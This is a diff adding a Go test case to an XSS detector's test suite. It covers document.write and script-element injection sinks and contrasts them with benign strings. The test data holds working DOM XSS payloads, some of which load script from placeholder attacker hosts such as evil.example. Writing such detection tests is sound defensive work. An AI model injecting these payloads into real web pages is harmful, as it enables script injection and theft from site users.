@@ -20,3 +20,24 @@ func TestEvalArgumentAnyCase(t *testing.T) {
 		{"q", "eval(Something) is evil", 0},
 	}, 0.95)
 }
+
+// document.write fed a decoder or the page's own strings writes it into
+// the page as eval runs it; a script element made and given a source is
+// a <script src> tag written as DOM calls (SecLists' EnDe and RSnake
+// lists, OWASP's DOM XSS cheat sheet). A literal written, and the method
+// named in a sentence, are no more than a hint.
+func TestWriteAndScriptElementSinks(t *testing.T) {
+	checkFamily(t, "xss", []familyCase{
+		{"q", "document.write(unescape(location.hash.slice(1)))", 0.99},
+		{"q", "document.writeln(atob(name))", 0.99},
+		{"q", "document.write(unescape(a..b))", 0.99},
+		{"q", "with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//x.example'", 0.99},
+		{"q", `var s=document.createElement("script");s.src="//evil.example/x.js";document.body.appendChild(s)`, 0.99},
+		{"body:application/json", `{"note":"document.body.appendChild(document.createElement('script')).text='alert(1)'"}`, 0.99},
+	}, []familyCase{
+		{"q", `document.write("hello")`, 0},
+		{"q", "use document.createElement('script') to add a script", 0},
+		{"q", "createElement('div') then appendChild(it)", 0},
+		{"q", "document.write(x) is discouraged", 0},
+	}, 0.95) // a write of anything else keeps its hint (0.9), which refuses nothing alone
+}
